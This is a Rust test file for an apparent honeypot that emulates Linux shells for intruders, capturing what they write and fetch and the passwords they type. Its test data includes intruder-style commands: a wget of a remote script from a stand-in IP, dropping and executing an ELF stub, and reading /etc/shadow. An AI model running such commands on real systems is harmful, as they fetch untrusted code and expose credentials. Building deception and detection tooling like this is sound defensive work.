//! Transcripts: what a visitor types and what the machine answers.

use std::{
    sync::{Arc, Mutex},
    task::{Context, Poll, Waker},
    time::Duration,
};

use decnet_persona::{Distro, Persona, PersonaSpec, Seed};
use proptest::prelude::*;

use super::*;

mod intruder;
mod language;
mod machine;

/// What was seen from outside.
#[derive(Debug, Default)]
struct Seen {
    out: Vec<u8>,
    err: Vec<u8>,
    files: Vec<(String, Vec<u8>)>,
    fetched: Vec<String>,
    input: std::collections::VecDeque<Vec<u8>>,
    /// Both streams, in the order in which a terminal shows them, and what was reported between.
    shown: Vec<u8>,
    reports: Vec<String>,
    /// What is typed at prompts.
    typed: std::collections::VecDeque<Typed>,
    /// The terminal's size, where there is one.
    size: Option<(u32, u32)>,
    /// Seconds that were waited.
    waited: u64,
    /// Unix time; 0 for a fixed one.
    now: i64,
}

struct Bench(Arc<Mutex<Seen>>);

impl Outside for Bench {
    fn write(&mut self, stream: Stream, bytes: &[u8]) {
        let mut seen = self.0.lock().unwrap();
        match stream {
            Stream::Out => seen.out.extend_from_slice(bytes),
            Stream::Err => seen.err.extend_from_slice(bytes),
        }
        seen.shown.extend_from_slice(bytes);
    }
    fn prompt<'a>(&'a mut self, prompt: &'a str, _history: &'a [String]) -> Running<'a, Typed> {
        let mut seen = self.0.lock().unwrap();
        seen.shown.extend_from_slice(prompt.as_bytes());
        let next = seen.typed.pop_front().unwrap_or(Typed::End);
        if let Typed::Line(line) = &next {
            let line = [line.as_slice(), b"\n"].concat();
            seen.shown.extend_from_slice(&line);
        }
        // Typing may come with another window.
        Box::pin(async { next })
    }
    fn size(&self) -> Option<(u32, u32)> {
        self.0.lock().unwrap().size
    }
    fn flush(&mut self) -> Running<'_, bool> {
        Box::pin(async { true })
    }
    fn read(&mut self, _echo: bool) -> Running<'_, Option<Vec<u8>>> {
        let next = self.0.lock().unwrap().input.pop_front();
        Box::pin(async { next })
    }
    fn pause(&mut self, time: Duration) -> Running<'_, bool> {
        self.0.lock().unwrap().waited += time.as_secs();
        Box::pin(async { true })
    }
    fn report(&mut self, report: Report<'_>) {
        let mut seen = self.0.lock().unwrap();
        let line = match &report {
            Report::File { path, bytes, user } => {
                use sha2::Digest as _;
                let sha256 = hex::encode(sha2::Sha256::digest(bytes));
                format!(
                    "file {path} {} bytes by {user} {}",
                    bytes.len(),
                    sha256.get(..12).unwrap()
                )
            }
            Report::Fetch { url, via } => format!("fetch {url} via {via}"),
            Report::Secret {
                user,
                secret,
                via,
                accepted,
            } => format!(
                "secret {user} {} via {via} {}",
                String::from_utf8_lossy(secret),
                if *accepted { "accepted" } else { "refused" }
            ),
            Report::Command { line, user, cwd } => {
                format!("command {} as {user} in {cwd}", String::from_utf8_lossy(line))
            }
        };
        seen.reports.push(line);
        match report {
            Report::File { path, bytes, .. } => seen.files.push((path.to_owned(), bytes.to_vec())),
            Report::Fetch { url, .. } => seen.fetched.push(url.to_owned()),
            _ => {}
        }
    }
    fn now(&self) -> i64 {
        match self.0.lock().unwrap().now {
            0 => 1_700_000_000,
            now => now,
        }
    }
}

fn template() -> &'static Template {
    static TEMPLATE: std::sync::OnceLock<Template> = std::sync::OnceLock::new();
    TEMPLATE.get_or_init(|| {
        let mut spec = PersonaSpec::new(Seed::from_bytes([7; 16]), "linux-server");
        spec.distro = Some(
            Distro::ALL
                .iter()
                .copied()
                .find(|d| d.as_str() == "debian12")
                .unwrap_or(Distro::ALL[0]),
        );
        Template::new(&Persona::derive(&spec).unwrap(), Arc::default())
    })
}

/// Run a future that never really waits.
fn now_or_never<F: Future>(future: F) -> F::Output {
    let mut future = std::pin::pin!(future);
    match future.as_mut().poll(&mut Context::from_waker(Waker::noop())) {
        Poll::Ready(out) => out,
        Poll::Pending => panic!("the shell waited for something that the test does not give"),
    }
}

fn run_as(user: &str, script: &str) -> (String, String, u8, Arc<Mutex<Seen>>) {
    let seen = Arc::new(Mutex::new(Seen::default()));
    let mut shell = template().shell(
        user,
        "192.0.2.7 40022 22",
        Box::new(Bench(Arc::clone(&seen))),
        4_711,
        vfs::Shared::default(),
    );
    shell.env.arg0 = "bash".to_owned();
    shell.env.from_argument = true;
    now_or_never(shell.run_line(script.as_bytes()));
    now_or_never(shell.finish());
    shell.surrender_all();
    let (out, err) = {
        let seen = seen.lock().unwrap();
        (
            String::from_utf8_lossy(&seen.out).into_owned(),
            String::from_utf8_lossy(&seen.err).into_owned(),
        )
    };
    (out, err, shell.status, seen)
}

fn run(script: &str) -> (String, String, u8) {
    let (out, err, status, _) = run_as("root", script);
    (out, err, status)
}

/// Scripts of pure shell, which mean the same to any shell: run by ours and by the real bash.
const SCRIPTS: &str = include_str!("data/scripts.txt");
/// Scripts that need bash, or whose complaints are compared, too.
const BASH_SCRIPTS: &str = include_str!("data/bash_scripts.txt");
/// Scripts for Debian's `sh`.
const DASH_SCRIPTS: &str = include_str!("data/dash_scripts.txt");

fn scripts(text: &str) -> impl Iterator<Item = &str> {
    text.split("\n----\n")
        .map(str::trim_end)
        .filter(|s| !s.is_empty())
}

/// Run every script by the real shell in an empty folder and by ours, and compare what they print, how they end, and
/// (where `complaints`) what they complain of. How many were compared, or `None` where there is no such shell here.
fn compare(shell: &str, text: &str, complaints: bool) -> Option<usize> {
    if std::process::Command::new(shell)
        .args(["-c", ":"])
        .output()
        .is_err()
    {
        decnet_testkit::skipped(&format!("no {shell} on this machine to compare with"));
        return None;
    }
    let folder = tempfile::tempdir().unwrap();
    let mut wrong = Vec::new();
    let mut count = 0;
    for script in scripts(text) {
        // What was started in the background ignores interrupts, and so would this shell: `trap` tells of it.
        let mut command = std::process::Command::new("env");
        command.args(["--default-signal", shell]);
        if shell == "bash" {
            command.arg("--norc");
        }
        let real = command
            .args(["-c", script])
            .current_dir(folder.path())
            .stdin(std::process::Stdio::null())
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", "/root")
            .env("LC_ALL", "C.UTF-8")
            .output()
            .unwrap();
        count += 1;
        let (out, err, status) = run_by(shell, script);
        let expected = String::from_utf8_lossy(&real.stdout).into_owned();
        let told = String::from_utf8_lossy(&real.stderr).into_owned();
        let differs =
            out != expected || Some(i32::from(status)) != real.status.code() || (complaints && err != told);
        if differs {
            wrong.push(format!(
                "{script}\n  {shell}: {expected:?} {told:?} {:?}\n  ours: {out:?} {err:?} {status}",
                real.status.code()
            ));
        }
        for entry in std::fs::read_dir(folder.path()).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                std::fs::remove_dir_all(entry.path()).unwrap()
            } else {
                std::fs::remove_file(entry.path()).unwrap()
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {count} differ:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    Some(count)
}

/// Run a script as `bash -c` or `dash -c` would, in `/tmp`.
fn run_by(name: &str, script: &str) -> (String, String, u8) {
    let seen = Arc::new(Mutex::new(Seen::default()));
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template().shell(
        "root",
        "192.0.2.7 40022 22",
        outside,
        4_711,
        vfs::Shared::default(),
    );
    name.clone_into(&mut shell.env.arg0);
    shell.env.from_argument = true;
    shell.env.cwd = "/tmp".to_owned();
    if name == "dash" {
        shell.env.dialect = vars::Dialect::Dash;
    }
    now_or_never(shell.run_line(script.as_bytes()));
    now_or_never(shell.finish());
    let seen = seen.lock().unwrap();
    (
        String::from_utf8_lossy(&seen.out).into_owned(),
        String::from_utf8_lossy(&seen.err).into_owned(),
        shell.status,
    )
}

#[test]
fn pure_shell_means_what_it_means_to_bash() {
    if let Some(count) = compare("bash", SCRIPTS, false) {
        assert!(count > 100, "{count} scripts");
    }
}

#[test]
fn bash_forms_and_complaints_are_bashs() {
    if let Some(count) = compare("bash", BASH_SCRIPTS, true) {
        assert!(count > 100, "{count} scripts");
    }
}

#[test]
fn sh_is_dash_where_it_is_on_debian() {
    if let Some(count) = compare("dash", DASH_SCRIPTS, true) {
        assert!(count > 20, "{count} scripts");
    }
}

#[test]
fn what_bots_probe_is_answered_as_a_machine_answers() {
    for (script, out, err) in [
        ("/bin/busybox ABCDE", "", "ABCDE: applet not found\n"),
        ("foo", "", "bash: line 1: foo: command not found\n"),
        (
            "cd /nowhere",
            "",
            "bash: line 1: cd: /nowhere: No such file or directory\n",
        ),
        ("cat /nowhere", "", "cat: /nowhere: No such file or directory\n"),
        (
            "ls /nowhere",
            "",
            "ls: cannot access '/nowhere': No such file or directory\n",
        ),
        ("whoami", "root\n", ""),
        ("id", "uid=0(root) gid=0(root) groups=0(root)\n", ""),
        ("echo -e '\\x6b\\x61\\x6d\\x69'", "kami\n", ""),
        ("echo $((6*7)); uname", "42\nLinux\n", ""),
        ("cd /tmp && pwd", "/tmp\n", ""),
        ("rm -rf /tmp/x; mkdir /tmp/x; ls -d /tmp/x", "/tmp/x\n", ""),
        ("rm /etc", "", "rm: cannot remove '/etc': Is a directory\n"),
    ] {
        let (got, told, _) = run(script);
        assert_eq!((got.as_str(), told.as_str()), (out, err), "{script}");
    }
}

#[test]
fn what_is_written_is_captured_and_what_is_fetched_is_reported() {
    let (_, err, status, seen) = run_as(
        "root",
        "cd /tmp; echo -ne '\\x7fELF\\x01' > a; chmod +x a; ./a; rm a; echo two > b; wget http://198.51.100.9/x.sh",
    );
    let seen = seen.lock().unwrap();
    assert_eq!(
        seen.files,
        [
            ("/tmp/a".to_owned(), b"\x7fELF\x01".to_vec()),
            ("/tmp/b".to_owned(), b"two\n".to_vec())
        ]
    );
    assert_eq!(seen.fetched, ["http://198.51.100.9/x.sh"]);
    assert!(
        err.contains("./a: cannot execute binary file: Exec format error"),
        "{err}"
    );
    assert!(err.contains("Connection timed out"), "{err}");
    assert_eq!(status, 4);
}

#[test]
fn a_plain_user_is_kept_out_of_what_is_roots() {
    let user = template()
        .machine
        .accounts
        .iter()
        .find(|a| a.uid != 0)
        .map(|a| a.name.clone())
        .unwrap();
    let (_, err, status, _) = run_as(&user, "cat /etc/shadow");
    assert_eq!(
        (err.as_str(), status),
        ("cat: /etc/shadow: Permission denied\n", 1)
    );
    let (_, err, ..) = run_as(&user, "echo x > /etc/x");
    assert_eq!(err, "bash: line 1: /etc/x: Permission denied\n");
}

#[test]
fn what_nests_without_end_is_refused_and_not_followed() {
    let long = |part: &str| part.repeat(30_000);
    for script in [
        format!("[[ a {} ]]", long("&& a ")),
        format!("[[ a {} ]]", long("|| a ")),
        format!("awk 'BEGIN {{ print 1{} }}'", long("+1")),
        format!("awk 'BEGIN {{ print {}1 }}'", long("-")),
        format!("awk 'BEGIN {{ print {} }}'", long("\"a\" ")),
        format!("find / {}", "-o -name a ".repeat(3_000)),
        format!("echo {0} | grep -E '{0}'", "a".repeat(3_000)),
        format!("echo aaa | grep -E '{}'", "(a".repeat(5_000)),
        format!("echo {} | grep -E '(a|b)*c'", "ab".repeat(5_000)),
        format!("echo $(({}1))", long("1+")),
        format!("expr {}1", "1 + ".repeat(3_000)),
    ] {
        // That it comes back at all is the point.
        run(&script);
    }
    let literal = "x".repeat(3_000);
    assert_eq!(run(&format!("echo {literal} | grep -c {literal}")).0, "1\n");
}

#[test]
fn endless_work_is_killed() {
    for script in [
        "while :; do :; done",
        "f() { f; }; f",
        "while true; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done",
        "for i in {1..900}; do for j in {1..900}; do :; done; done",
        "x=a; while :; do x=$x$x; done",
    ] {
        let (out, _, status) = run(script);
        assert!(out.len() <= 5 << 20, "{script}");
        assert_eq!(status, 137, "{script}");
    }
}

#[test]
fn the_file_system_is_a_few_thousand_entries_that_agree_with_the_persona() {
    let (out, ..) = run("find / | wc -l");
    assert!(out.trim().parse::<usize>().unwrap() > 2_000, "{out}");
    let (out, ..) = run("cat /etc/hostname; hostname; grep -c processor /proc/cpuinfo; nproc");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], lines[1]);
    assert_eq!(lines[2], lines[3]);
}

#[test]
fn line_editing_moves_deletes_and_recalls() {
    let history = vec!["uname -a".to_owned(), "id".to_owned()];
    for (keys, line) in [
        (&b"lss\x7f -l\r"[..], "ls -l"),
        (b"abc\x1b[D\x1b[DX\r", "aXbc"),
        (b"one two\x17three\r", "one three"),
        (b"gone\x15here\r", "here"),
        (b"\x1b[A\r", "id"),
        (b"\x1b[A\x1b[A\r", "uname -a"),
        (b"b\x01a\x05c\r", "abc"),
        ("é\x7fe\r".as_bytes(), "e"),
    ] {
        let mut editor = terminal::Editor::default();
        let mut echo = Vec::new();
        let done = keys
            .iter()
            .find_map(|b| editor.key(*b, terminal::Mode::Line, &history, &mut echo));
        assert_eq!(
            done,
            Some(terminal::Key::Line(line.as_bytes().to_vec())),
            "{keys:?}"
        );
    }
}

#[test]
fn the_fuzz_corpus_parses_or_is_refused() {
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus/shell_parse");
    let mut count = 0;
    for entry in std::fs::read_dir(&corpus).unwrap().flatten() {
        let bytes = std::fs::read(entry.path()).unwrap();
        // Either is fine; not coming back is not.
        let _either = parse::parse(&bytes);
        count += 1;
    }
    assert!(count > 10, "{count} in {}", corpus.display());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn the_parser_takes_any_bytes(script in prop::collection::vec(any::<u8>(), 0..300)) {
        let _either = parse::parse(&script);
    }

    #[test]
    fn the_shell_takes_any_line(line in "[ -~\n]{0,80}") {
        run(&line);
    }

    #[test]
    fn the_shell_takes_any_mix_of_its_own_words(words in prop::collection::vec(prop::sample::select(vec![
        "if", "then", "fi", "for", "do", "done", "while", "case", "esac", "in", "{", "}", "(", ")", ";", "&&", "||", "|", "&", ">", "<<", "<",
        "$(", "`", "\"", "'", "${x", "$((", "))", "echo", "ls", "x=1", "$x", "*", "\n", "f()", "!", "cat", "/etc/passwd", "2>&1", "sed", "s/a/b/", "awk",
    ]), 0..30)) {
        run(&words.join(" "));
    }

    #[test]
    fn the_languages_within_the_shell_take_any_program(
        words in prop::collection::vec(prop::sample::select(vec![
            "{", "}", "(", ")", "[", "]", "print", "$1", "NF", "/a/", "~", "!", "++", "+", "=", "in", "for", "while", "if", ";", "\"x\"",
            "a", "1", ",", "s/a/b/", "p", "d", "$", "2,3", "-name", "-o", "-exec", "*", "\\(", "|", "{1,2}", "^", "y/a/b/", "a\\",
        ]), 0..40),
        tool in prop::sample::select(vec!["awk", "sed", "find", "grep -E", "expr", "sed -n"]),
    ) {
        let program = words.join(" ");
        run(&format!("printf 'a b\\nc\\n' | {tool} '{program}'; [[ abc =~ ${{0+a}} ]]; find /tmp {}", words.iter().filter(|w| w.starts_with('-')).copied().collect::<Vec<_>>().join(" ")));
    }

    #[test]
    fn line_editing_takes_any_keys(keys in prop::collection::vec(any::<u8>(), 0..200)) {
        let mut editor = terminal::Editor::default();
        let mut echo = Vec::new();
        for key in keys {
            editor.key(key, terminal::Mode::Line, &["ls".to_owned()], &mut echo);
        }
        prop_assert!(echo.len() < 1 << 20);
    }
}

/// What says which distribution a machine is; a program that is not there says so.
const WHICH: &str = "cat /etc/*release; cat /etc/issue; uname -a; ls /etc; ls /usr/bin /bin /usr/sbin; cat /proc/version; cat /etc/motd; \
    cat /etc/apt/sources.list; cat /etc/debian_version; dpkg -l; apt update; rpm -qa; dnf makecache; apk info; apk update; pacman -Q; pacman -Sy; busybox; bash --version; echo $BASH_VERSION";

fn of_distro(distro: Distro, seed: u8) -> Template {
    let mut spec = PersonaSpec::new(Seed::from_bytes([seed; 16]), "linux-server");
    spec.distro = Some(distro);
    Template::new(&Persona::derive(&spec).unwrap(), Arc::default())
}

#[test]
fn a_machine_names_no_other_distribution_than_its_own() {
    let names: [(&str, &[Distro]); 8] = [
        ("debian", &[Distro::Debian11, Distro::Debian12]),
        ("ubuntu", &[Distro::Ubuntu20, Distro::Ubuntu22, Distro::Ubuntu24]),
        ("rocky", &[Distro::Rocky9]),
        ("fedora", &[Distro::Fedora]),
        ("alpine", &[Distro::Alpine]),
        ("kali", &[Distro::Kali]),
        ("archlinux", &[Distro::Arch]),
        ("buildroot", &[Distro::Firmware]),
    ];
    for distro in names.iter().flat_map(|(_, distros)| *distros) {
        for seed in 0..3 {
            let template = of_distro(*distro, seed);
            let seen = Arc::new(Mutex::new(Seen::default()));
            let outside = Box::new(Bench(Arc::clone(&seen)));
            let mut shell = template.shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
            now_or_never(shell.run_line(WHICH.as_bytes()));
            let machine = &template.machine;
            let motd = machine.distribution.motd(&machine.uname, machine.architecture);
            let seen = seen.lock().unwrap();
            let shown = format!("{}{motd}", String::from_utf8_lossy(&seen.out));
            let told = String::from_utf8_lossy(&seen.err).into_owned();
            // Complaints echo the names of files and programs that were asked for.
            let told: String = told
                .lines()
                .filter(|l| !l.contains("not found") && !l.contains("No such file"))
                .collect();
            // A package of Alpine's.
            let all = format!("{shown}\n{told}").to_lowercase().replace("skalibs", "");
            // Their own texts name relatives: ID_LIKE, Debian's files on Ubuntu and Kali, Fedora's heirs.
            let relatives: &[&str] = match distro {
                Distro::Ubuntu20 | Distro::Ubuntu22 | Distro::Ubuntu24 | Distro::Kali => &["debian"],
                Distro::Rocky9 => &["fedora"],
                _ => &[],
            };
            for (name, own) in names {
                let at = all.find(name);
                if own.contains(distro) {
                    assert!(at.is_some(), "{distro} nowhere says {name}:\n{shown}");
                } else if !relatives.contains(&name) {
                    let near = at.map(|at| all.get(at.saturating_sub(60)..at + 60));
                    assert!(at.is_none(), "{distro} says {name}: {near:?}");
                }
            }
        }
    }
}

#[test]
fn a_busybox_machine_has_its_own_shell_and_no_bash() {
    for distro in [Distro::Alpine, Distro::Firmware] {
        let template = of_distro(distro, 1);
        let seen = Arc::new(Mutex::new(Seen::default()));
        let outside = Box::new(Bench(Arc::clone(&seen)));
        let mut shell = template.shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
        shell.interactive = true;
        now_or_never(
            shell.run_line(
                b"bash; apt-get; /bin/busybox cat /etc/hostname; readlink /bin/ls; sh -c 'echo in'",
            ),
        );
        let (out, err) = {
            let seen = seen.lock().unwrap();
            (
                String::from_utf8_lossy(&seen.out).into_owned(),
                String::from_utf8_lossy(&seen.err).into_owned(),
            )
        };
        let name = template.machine.distribution.shell_name();
        assert_eq!(
            err,
            format!("-{name}: bash: not found\n-{name}: apt-get: not found\n")
        );
        assert_eq!(out, format!("{}\n/bin/busybox\nin\n", template.machine.hostname));
    }
}

#[test]
fn the_listing_names_no_build_machine() {
    let (out, ..) = run("find / -xdev");
    for word in [
        "google",
        "gcloud",
        "containerenv",
        "cargo",
        "rustup",
        "jenkins",
        "gitlab",
        "runner",
        "maven",
        "node_modules",
        "fakeroot",
        "honey",
        "cowrie",
        "decnet",
        "dpkg-dev",
        "chromium",
        "nvidia",
    ] {
        let hits: Vec<&str> = out.lines().filter(|l| l.contains(word)).take(3).collect();
        assert!(hits.is_empty(), "{word}: {hits:?}");
    }
    let (out, ..) = run("cat /etc/services /etc/login.defs | grep -c ELF");
    assert_eq!(out, "0\n");
}

/// What intruders' programs are known to run, with every answer as it is: `$` before a command, `@` before what was
/// reported of it. `DECNET_WRITE_TRANSCRIPTS=1` writes the answers anew, to be read before they are kept.
#[test]
fn known_intruders_get_the_answers_that_were_read_and_found_right() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/shell");
    let write = std::env::var_os("DECNET_WRITE_TRANSCRIPTS").is_some();
    let mut count = 0;
    let mut wrong = Vec::new();
    let mut files: Vec<_> = std::fs::read_dir(&folder)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    files.sort();
    for path in files {
        let text = std::fs::read_to_string(&path).unwrap();
        let mut head = String::new();
        let mut commands: Vec<String> = Vec::new();
        for line in text.lines() {
            if let Some(command) = line.strip_prefix("$ ") {
                commands.push(command.to_owned());
            } else if commands.is_empty() {
                head.push_str(&format!("{line}\n"));
            }
        }
        let distro = match () {
            () if head.contains("rocky9") => Distro::Rocky9,
            () if head.contains("firmware") => Distro::Firmware,
            () if head.contains("ubuntu22") => Distro::Ubuntu22,
            () => Distro::Debian12,
        };
        let template = of_distro(distro, 7);
        let seen = Arc::new(Mutex::new(Seen::default()));
        seen.lock().unwrap().now = template.machine.boot_time + 2_451_907;
        let outside = Box::new(Bench(Arc::clone(&seen)));
        let mut shell = template.shell(
            "root",
            "192.0.2.7 40022 22",
            outside,
            4_711,
            vfs::Shared::default(),
        );
        shell.env.arg0 = template.machine.distribution.shell_name().to_owned();
        shell.env.from_argument = true;
        let mut got = head.clone();
        for command in &commands {
            count += 1;
            now_or_never(shell.run_line(command.as_bytes()));
            shell.surrender_all();
            let mut seen = seen.lock().unwrap();
            let mut shown = String::from_utf8_lossy(&std::mem::take(&mut seen.shown)).into_owned();
            if !shown.is_empty() && !shown.ends_with('\n') {
                shown.push_str("%\n");
            }
            got.push_str(&format!("$ {command}\n{shown}"));
            for report in std::mem::take(&mut seen.reports) {
                got.push_str(&format!("@ {report}\n"));
            }
        }
        if write {
            std::fs::write(&path, &got).unwrap();
        } else if got != text {
            let at = got.lines().zip(text.lines()).find(|(a, b)| a != b);
            wrong.push(format!("{}: now and before: {at:?}", path.display()));
        }
    }
    assert!(count >= 60, "{count} commands");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A login of `user` at a terminal that types `lines`, answers prompts for secrets with `secrets`, and leaves.
fn dialogue(user: &str, secret: &str, lines: &[&str], secrets: &[&str]) -> (String, Vec<String>) {
    let seen = Arc::new(Mutex::new(Seen::default()));
    {
        let mut seen = seen.lock().unwrap();
        seen.size = Some((80, 24));
        seen.typed = lines.iter().map(|l| Typed::Line(l.as_bytes().to_vec())).collect();
        seen.input = secrets.iter().map(|s| format!("{s}\n").into_bytes()).collect();
    }
    let template = of_distro(Distro::Debian12, 7);
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template.shell(user, "192.0.2.7 40022 22", outside, 4_711, vfs::Shared::default());
    shell.terminal = Some((80, 24));
    shell.login_secret = Some((user.to_owned(), secret.as_bytes().to_vec()));
    shell.env.export("TERM", "vt100");
    now_or_never(shell.login(""));
    let seen = seen.lock().unwrap();
    let shown = String::from_utf8_lossy(&seen.shown).into_owned();
    let shown = shown.replace("\x1b[?2004h", "").replace("\x1b[?2004l\r", "");
    (
        shown,
        seen.reports
            .iter()
            .filter(|r| !r.starts_with("command"))
            .cloned()
            .collect(),
    )
}

#[test]
fn a_shell_in_a_shell_has_its_own_prompt_history_and_end() {
    let (shown, _) = dialogue(
        "root",
        "x",
        &[
            "echo $SHLVL $0",
            "bash",
            "echo $SHLVL $0; v=1",
            "cd /tmp",
            "exit",
            "echo [$v] $PWD",
            "sh",
            "nosuch",
            "exit",
            "bash -i",
            "logout",
            "exit 3",
            "exit",
        ],
        &[],
    );
    let host = of_distro(Distro::Debian12, 7).machine.hostname.clone();
    let prompt = format!("root@{host}:~# ");
    let expected = format!(
        "{prompt}echo $SHLVL $0\n1 -bash\n{prompt}bash\n{prompt}echo $SHLVL $0; v=1\n2 bash\n{prompt}cd /tmp\nroot@{host}:/tmp# exit\nexit\n{prompt}echo [$v] $PWD\n[] /root\n{prompt}sh\n# nosuch\nsh: 1: nosuch: not found\n# exit\n{prompt}bash -i\n{prompt}logout\nbash: logout: not login shell: use `exit'\n{prompt}exit 3\nexit\n{prompt}exit\nlogout\n"
    );
    assert_eq!(shown, expected);
}

#[test]
fn su_and_sudo_ask_and_what_is_typed_is_reported() {
    let template = of_distro(Distro::Debian12, 7);
    let admin = template
        .machine
        .accounts
        .iter()
        .find(|a| a.uid != 0 && a.admin)
        .unwrap();
    let (shown, reports) = dialogue(
        &admin.name,
        "came-in",
        &[
            "su -",
            "sudo -i",
            "id -u; echo $HOME $USER $SUDO_USER",
            "exit",
            "sudo id -un",
            "sudo su -",
            "whoami",
            "exit",
            "passwd",
            "exit",
        ],
        &["guess", "wrong", "came-in", "came-in", "new-one", "new-one"],
    );
    let name = &admin.name;
    assert_eq!(
        reports
            .iter()
            .filter(|r| r.starts_with("secret"))
            .cloned()
            .collect::<Vec<_>>(),
        [
            "secret root guess via su refused".to_owned(),
            format!("secret {name} wrong via sudo refused"),
            format!("secret {name} came-in via sudo accepted"),
            format!("secret {name} came-in via passwd accepted"),
        ]
    );
    for part in [
        "Password: \nsu: Authentication failure\n".to_owned(),
        format!("[sudo] password for {name}: \nSorry, try again.\n[sudo] password for {name}: \nroot@"),
        format!("0\n/root root {name}\n"),
        "# exit\nlogout\n".to_owned(),
        "sudo id -un\nroot\n".to_owned(),
        "whoami\nroot\n".to_owned(),
        format!(
            "Changing password for {name}.\nCurrent password: \nNew password: \nRetype new password: \npasswd: password updated successfully\n"
        ),
    ] {
        assert!(shown.contains(&part), "{part:?} in {shown}");
    }
    assert_eq!(shown.matches("[sudo] password").count(), 2, "{shown}");
}

#[test]
fn a_changed_window_reaches_the_shell_and_its_programs() {
    let seen = Arc::new(Mutex::new(Seen::default()));
    seen.lock().unwrap().size = Some((132, 43));
    let template = of_distro(Distro::Debian12, 7);
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template.shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
    shell.terminal = Some((80, 24));
    shell.interactive = true;
    now_or_never(
        shell.run_line(
            b"stty size; echo $COLUMNS $LINES; tput cols; ls /usr/bin | head -1 >/dev/null; ls /etc",
        ),
    );
    let wide = String::from_utf8(std::mem::take(&mut seen.lock().unwrap().out)).unwrap();
    assert!(wide.starts_with("43 132\n132 43\n132\n"), "{wide}");
    assert!(
        wide.lines().any(|l| l.len() > 90) && wide.lines().all(|l| l.len() <= 132),
        "{wide}"
    );
    seen.lock().unwrap().size = Some((50, 20));
    now_or_never(shell.run_line(b"stty size; ls /etc"));
    let narrow = String::from_utf8(std::mem::take(&mut seen.lock().unwrap().out)).unwrap();
    assert!(narrow.starts_with("20 50\n"), "{narrow}");
    assert!(narrow.lines().all(|l| l.len() <= 50), "{narrow}");
}

#[test]
fn a_line_that_wraps_is_edited_over_the_edge_and_shown_again_in_another_width() {
    let mut editor = terminal::Editor::default();
    editor.begin("$ ", 10);
    let mut screen = Vec::new();
    for key in b"abcdefghijkl" {
        editor.key(*key, terminal::Mode::Line, &[], &mut screen);
    }
    // The eighth letter ends the first row; the terminal is made to go on to the next.
    assert_eq!(screen, b"abcdefgh \rijkl");
    screen.clear();
    editor.key(1, terminal::Mode::Line, &[], &mut screen);
    assert_eq!(screen, b"\x1b[1A\r\x1b[2C");
    screen.clear();
    editor.resize(40, &mut screen);
    assert_eq!(
        String::from_utf8_lossy(&screen),
        format!("\r\x1b[J$ abcdefghijkl{}", "\x08".repeat(12))
    );
}

#[test]
fn a_program_that_reads_lines_gets_the_kernels_editing_and_no_history() {
    let history = ["secret command".to_owned()];
    for (keys, line, echo) in [
        (&b"ab\x7fc\r"[..], "ac", "ab\x08 \x08c\r\n"),
        (
            b"one two\x17x\r",
            "one x",
            "one two\x08 \x08\x08 \x08\x08 \x08x\r\n",
        ),
        (
            b"gone\x15k\r",
            "k",
            "gone\x08 \x08\x08 \x08\x08 \x08\x08 \x08k\r\n",
        ),
        (b"\x1b[A\r", "\x1b[A", "^[[A\r\n"),
    ] {
        let mut editor = terminal::Editor::default();
        let mut shown = Vec::new();
        let done = keys
            .iter()
            .find_map(|k| editor.key(*k, terminal::Mode::Plain, &history, &mut shown));
        assert_eq!(done, Some(terminal::Key::Line(line.as_bytes().to_vec())));
        assert_eq!(String::from_utf8_lossy(&shown), echo);
    }
}

#[test]
fn history_is_searched_and_events_are_recalled() {
    let history = vec!["cat /etc/passwd".to_owned(), "uname -a".to_owned()];
    let mut editor = terminal::Editor::default();
    let mut shown = Vec::new();
    let done = b"\x12pass\r"
        .iter()
        .find_map(|k| editor.key(*k, terminal::Mode::Line, &history, &mut shown));
    assert_eq!(done, Some(terminal::Key::Line(b"cat /etc/passwd".to_vec())));
    let (shown, _) = dialogue(
        "root",
        "x",
        &[
            "echo one two",
            "!!",
            "echo last !$",
            "!nosuch",
            "!echo",
            "history | tail -1",
        ],
        &[],
    );
    assert!(shown.contains("!!\necho one two\none two\n"), "{shown}");
    assert!(shown.contains("echo last two\nlast two\n"), "{shown}");
    assert!(shown.contains("-bash: !nosuch: event not found\n"), "{shown}");
}

#[test]
fn what_waits_in_the_background_does_not_keep_the_shell() {
    let seen = Arc::new(Mutex::new(Seen::default()));
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template().shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
    shell.interactive = true;
    now_or_never(shell.run_line(b"sleep 500 & jobs; ps | grep -c sleep; kill %1; jobs"));
    let seen = seen.lock().unwrap();
    assert_eq!(seen.waited, 0);
    let out = String::from_utf8_lossy(&seen.out).into_owned();
    assert_eq!(
        out,
        "[1]+  Running                 sleep 500 &\n1\n[1]+  Terminated              sleep 500\n"
    );
}

#[test]
fn what_runs_follows_the_services_that_are_offered() {
    let services = Arc::new(crate::serve::Services::default());
    services.set(["ssh", "redis"], None);
    let spec = PersonaSpec::new(Seed::from_bytes([7; 16]), "linux-server");
    let persona = Persona::derive(&spec).unwrap();
    let ftp = match persona.product(decnet_persona::ProductKind::Ftp).name {
        "ProFTPD" => "proftpd",
        _ => "vsftpd",
    };
    let template = Template::new(&persona, Arc::clone(&services));
    let seen = Arc::new(Mutex::new(Seen::default()));
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template.shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
    let mut ask = |script: &str| {
        now_or_never(shell.run_line(script.as_bytes()));
